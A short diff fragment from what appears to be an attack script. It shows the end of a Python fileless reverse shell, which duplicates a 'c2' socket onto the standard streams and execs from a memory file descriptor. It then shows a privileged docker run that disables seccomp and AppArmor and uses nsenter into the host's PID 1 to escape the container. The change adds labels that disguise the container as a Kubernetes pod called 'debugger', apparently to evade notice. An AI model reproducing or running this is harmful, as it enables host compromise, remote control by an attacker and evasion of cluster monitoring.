@@ -20,7 +20,8 @@ for fd in 0, 1, 2:
     os.dup2(c2.fileno(), fd)
 os.execv(f"/proc/self/fd/{memory}", ["sh"])
 END
-docker run --rm --network host --pid=host --cap-add SYS_ADMIN --cap-add SYS_PTRACE --cap-add SYS_CHROOT \
+docker run --rm --name debugger --label io.kubernetes.pod.name=debugger --label io.kubernetes.pod.namespace=default \
+    --network host --pid=host --cap-add SYS_ADMIN --cap-add SYS_PTRACE --cap-add SYS_CHROOT \
     --security-opt seccomp=unconfined --security-opt apparmor=unconfined tools sh -c "
         id; hostname
         nsenter -t 1 -m -u -i -n -p sh -c '
